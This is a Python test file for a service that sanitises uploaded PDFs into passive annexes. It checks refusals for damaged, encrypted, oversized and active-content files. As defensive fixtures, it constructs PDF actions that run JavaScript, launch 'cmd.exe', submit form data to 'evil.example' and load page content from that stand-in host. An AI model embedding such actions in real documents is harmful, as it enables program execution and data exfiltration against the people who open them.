"""Uploads become annexes that only show things, or are refused with the reason."""

from __future__ import annotations

import io
from typing import Any

import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Encryption, Name, Permissions, String
from PIL import Image, ImageChops

from service.drafting.errors import AnnexRefused
from service.drafting.pdf import active_content, flatten
from service.drafting.pdf.annex import annexes
from service.drafting.pdf.annex.annexes import UsualBounds, examine
from service.drafting.pdf.conformance import check
from service.sandbox.run import Limits
from tests.unit.drafting import portable
from tests.unit.drafting.portable import changed, text_pdf, with_action, with_annotation

RAW = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}
GOOD = text_pdf("First page: Łódź", "Second page")


def text_of(pdf: bytes) -> str:
    with pypdfium2.PdfDocument(pdf) as document:
        return "\n".join(page.get_textpage().get_text_range() for page in document)


def picture_of(pdf: bytes, page: int = 0) -> Image.Image:
    with pypdfium2.PdfDocument(pdf) as document:
        return document[page].render(scale=1).to_pil().convert("L")


def coarse(pdf: bytes) -> Image.Image:
    """A picture in which only where the ink lies can be seen."""
    return picture_of(pdf).resize((74, 105), Image.Resampling.BOX)


def refusal(pdf: bytes, **more: Any) -> AnnexRefused:
    with pytest.raises(AnnexRefused) as caught:
        examine(pdf, title="Budget", **more)
    assert str(caught.value).endswith(".")
    assert "{" not in str(caught.value)
    return caught.value


def test_a_plain_file_keeps_its_text_and_says_what_is_gone() -> None:
    clean = examine(GOOD, title="Budget")
    assert clean.pages == 2
    assert "First page: Łódź" in text_of(clean.pdf)
    assert clean.removed == ("the description of the file (author, dates, keywords)",)


def test_the_same_upload_gives_the_same_annex() -> None:
    assert examine(GOOD, title="Budget") == examine(GOOD, title="Budget")


@pytest.mark.parametrize(
    ("pdf", "code"),
    [
        (b"", "not_pdf"),
        (b"PK\x03\x04 a Word file", "not_pdf"),
        (b"%PDF-1.7\nnothing more", "damaged"),
        (GOOD[: len(GOOD) // 2], "damaged"),
        (GOOD[:-60], "damaged"),
        (changed(GOOD, portable.with_broken_content, **RAW), "damaged"),
        (changed(GOOD, lambda _: None, encryption=Encryption(user="secret", owner="o")), "encrypted"),
        (
            changed(GOOD, lambda _: None, encryption=Encryption(owner="o", allow=Permissions(modify_assembly=False))),
            "restricted",
        ),
        (changed(GOOD, portable.with_signature), "signed"),
        (changed(GOOD, portable.with_content(2000, packed=2), **RAW), "bomb"),
        (changed(GOOD, lambda pdf: pdf.pages.__delitem__(slice(0, 2))), "empty"),
    ],
    ids=[
        "empty file",
        "Word",
        "header only",
        "cut in half",
        "without its end",
        "broken content",
        "password",
        "restrictions",
        "signed",
        "packed twice",
        "no pages",
    ],
)
def test_what_cannot_be_read_safely_is_refused(pdf: bytes, code: str) -> None:
    assert refusal(pdf).code == code


@pytest.mark.parametrize(
    ("limit", "most", "change", "told"),
    [
        ("STREAM_BYTES", 1999, portable.with_content(2000), "a stream"),
        ("TEXT_BYTES", 1999, portable.with_content(2000), "all streams together"),
        ("PIXELS", 120, portable.with_image, "an image"),
    ],
)
def test_streams_and_images_have_limits(
    monkeypatch: pytest.MonkeyPatch, limit: str, most: int, change: portable.Change, told: str
) -> None:
    with pikepdf.open(io.BytesIO(changed(GOOD, change, **RAW))) as pdf:
        flatten.refuse_unreadable(pdf)
        monkeypatch.setattr(flatten, limit, most)
        with pytest.raises(flatten.Oversized, match=told):
            flatten.refuse_unreadable(pdf)


@pytest.mark.parametrize(
    ("pdf", "named"),
    [
        (changed(GOOD, with_action("JavaScript", JS=String("app.alert(1)"))), "JavaScript"),
        (changed(GOOD, with_action("Launch", F=String("cmd.exe"))), "starts a program"),
        (changed(GOOD, with_action("SubmitForm", F=String("http://evil.example"))), "sends data"),
        (changed(GOOD, with_action("ImportData", F=String("x.fdf"))), "imports data"),
        (changed(GOOD, with_action("GoTo", Next=Dictionary(S=Name.JavaScript, JS=String("1")))), "JavaScript"),
        (changed(GOOD, with_annotation("Link", A=Dictionary(S=Name.Launch, F=String("x")))), "starts a program"),
        (
            changed(GOOD, with_annotation("Link", AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("1"))))),
            "JavaScript",
        ),
        (changed(GOOD, with_annotation("FileAttachment")), "embedded file"),
        (changed(GOOD, with_annotation("RichMedia")), "sound or film"),
        (changed(GOOD, with_annotation("Screen", A=Dictionary(S=Name.Rendition))), "sound or film"),
        (changed(GOOD, with_annotation("3D")), "three-dimensional"),
        (changed(GOOD, portable.with_embedded_file), "embedded file"),
        (changed(GOOD, portable.with_xfa), "XFA"),
        (changed(GOOD, portable.with_hidden_object), "JavaScript"),
        (changed(GOOD, portable.with_layers(hidden=True)), "layers"),
    ],
    ids=lambda value: value if isinstance(value, str) else "pdf",
)
def test_active_content_is_refused_and_named(pdf: bytes, named: str) -> None:
    refused = refusal(pdf)
    assert refused.code == "active_content"
    assert named in str(refused)


def test_page_and_size_limits() -> None:
    many = text_pdf(*[f"Page {number}" for number in range(600)])
    refused = refusal(many)
    assert refused.code == "too_many_pages"
    assert "600 pages" in str(refused)
    assert refusal(GOOD, limits=UsualBounds(annex_pages=1)).code == "too_many_pages"
    assert refusal(GOOD + bytes(2 << 20), limits=UsualBounds(annex_bytes=1 << 20)).code == "too_large"


@pytest.mark.slow
def test_five_hundred_pages_are_accepted() -> None:
    clean = examine(text_pdf(*[f"Page {number}" for number in range(500)]), title="Long")
    assert clean.pages == 500
    assert "Page 499" in text_of(clean.pdf)


def test_harmless_leftovers_are_taken_out_and_listed() -> None:
    clean = examine(changed(GOOD, portable.leftovers), title="Budget")
    assert {"bookmarks", "thumbnails", "working data of the program that made the file"} <= set(clean.removed)
    with pikepdf.open(io.BytesIO(clean.pdf)) as pdf:
        assert "/PieceInfo" not in pdf.pages[0].obj
        assert "/Thumb" not in pdf.pages[0].obj


def test_visible_layers_stay_on_the_page() -> None:
    clean = examine(changed(GOOD, portable.with_layers(hidden=False)), title="Budget")
    assert "layers (all were visible and stay on the page)" in clean.removed
    with pikepdf.open(io.BytesIO(clean.pdf)) as pdf:
        assert "/OCProperties" not in pdf.Root


def test_links_are_taken_out_and_listed() -> None:
    link = with_annotation("Link", A=Dictionary(S=Name.URI, URI=String("https://www.oas.org/")))
    clean = examine(changed(GOOD, link), title="Budget")
    assert "links" in clean.removed
    assert b"oas.org" not in clean.pdf


def test_values_of_a_form_stay_on_the_page() -> None:
    clean = examine(changed(GOOD, portable.with_form("Quito")), title="Budget")
    assert "form fields (their values stay on the page)" in clean.removed
    with pikepdf.open(io.BytesIO(clean.pdf)) as pdf:
        assert "/AcroForm" not in pdf.Root
    empty = examine(GOOD, title="Budget")
    assert ImageChops.difference(picture_of(clean.pdf), picture_of(empty.pdf)).getbbox() is not None


def test_a_turned_and_cropped_page_looks_as_before() -> None:
    source = changed(text_pdf("Turned and cropped"), portable.rotated)
    clean = examine(source, title="Plan")
    before, after = picture_of(source), picture_of(clean.pdf)
    assert before.size == after.size == (400, 400)
    assert ImageChops.difference(before, after).getextrema()[1] < 40
    with pikepdf.open(io.BytesIO(clean.pdf)) as pdf:
        assert [float(edge) for edge in pdf.pages[0].mediabox] == [0, 0, 400, 400]
        assert "/Rotate" not in pdf.pages[0].obj


def test_a_page_without_embedded_fonts_becomes_an_image_and_the_note_says_so() -> None:
    source = text_pdf("not embedded", font="Helvetica")
    clean = examine(source, title="Budget")
    assert "pages whose fonts are not embedded (they were drawn as images)" in clean.removed
    assert text_of(clean.pdf).strip() == ""
    assert ImageChops.difference(coarse(source), coarse(clean.pdf)).getextrema()[1] < 32
    assert coarse(source).getextrema()[0] < 220


def test_only_the_page_that_needs_it_becomes_an_image() -> None:
    def printing_colours(canvas: Any) -> None:
        if canvas.getPageNumber() == 2:
            canvas.setFillColorCMYK(0.1, 0.8, 0.1, 0.1)
            canvas.rect(100, 100, 200, 200, fill=1)

    clean = examine(text_pdf("one", "two", "three", draw=printing_colours), title="Plan")
    assert clean.removed[-1] == "pages whose colours are meant for a printing press (they were drawn as images)"
    assert "one" in text_of(clean.pdf)
    assert "two" not in text_of(clean.pdf)


def test_too_many_pages_to_draw_are_refused_with_the_way_out() -> None:
    refused = refusal(text_pdf(*["x"] * 61, font="Helvetica"))
    assert refused.code == "not_archivable"
    assert "as they are: 61." in str(refused)
    assert "PDF/A" in str(refused)


def test_content_outside_the_file_is_refused() -> None:
    def outside(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents = pdf.make_stream(b"", F=String("http://evil.example/page"))

    assert "outside the file" in str(refusal(changed(GOOD, outside)))


def test_a_clean_annex_has_nothing_active_and_no_marks_of_old_tags(tmp_path: Any) -> None:
    tagged = changed(GOOD, lambda pdf: pdf.pages[0].contents_add(b"/P <</MCID 0>> BDC", prepend=True))
    tagged = changed(tagged, lambda pdf: pdf.pages[0].contents_add(b"EMC"))
    clean = examine(tagged, title="Budget")
    with pikepdf.open(io.BytesIO(clean.pdf)) as pdf:
        assert active_content.found(pdf) == []
        assert not any(b"BDC" in item.read_bytes() for item in pdf.objects if isinstance(item, pikepdf.Stream))


def test_an_annex_by_itself_is_not_called_an_original() -> None:
    verdict = check(examine(GOOD, title="Budget").pdf)
    assert not verdict.pdfa
    assert not verdict.pdfua


def test_refusals_cross_the_border_whole() -> None:
    error = AnnexRefused("too_many_pages", pages=600, limit=500)
    again = AnnexRefused.from_data(error.to_data())
    assert (again.code, str(again)) == (error.code, str(error))


def test_comments_stay_as_they_look() -> None:
    def comment(pdf: pikepdf.Pdf) -> None:
        drawn = pdf.make_stream(
            b"1 0 0 rg 0 0 80 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 80, 50])
        )
        with_annotation("Stamp", AP=Dictionary(N=drawn))(pdf)

    clean = examine(changed(GOOD, comment), title="Budget")
    assert "comments and other notes (what they show on the page stays)" in clean.removed
    assert picture_of(clean.pdf).getpixel((50, 842 - 35)) < 200


def test_a_picture_too_large_to_be_drawn_is_named_as_the_reason(monkeypatch: pytest.MonkeyPatch) -> None:
    buffer = io.BytesIO()
    Image.new("1", (12_300, 12_300)).save(buffer, "PDF")
    error = refusal(buffer.getvalue())
    assert (error.code, error.data["pixels"]) == ("too_detailed", 151)


def test_a_page_for_which_memory_is_missing_is_not_said_to_look_different(monkeypatch: pytest.MonkeyPatch) -> None:
    buffer = io.BytesIO()
    Image.new("L", (9000, 9000), 100).save(buffer, "PDF")
    monkeypatch.setattr(annexes, "LIMITS", Limits(memory_bytes=1 << 30))
    assert refusal(buffer.getvalue()).code == "too_detailed"
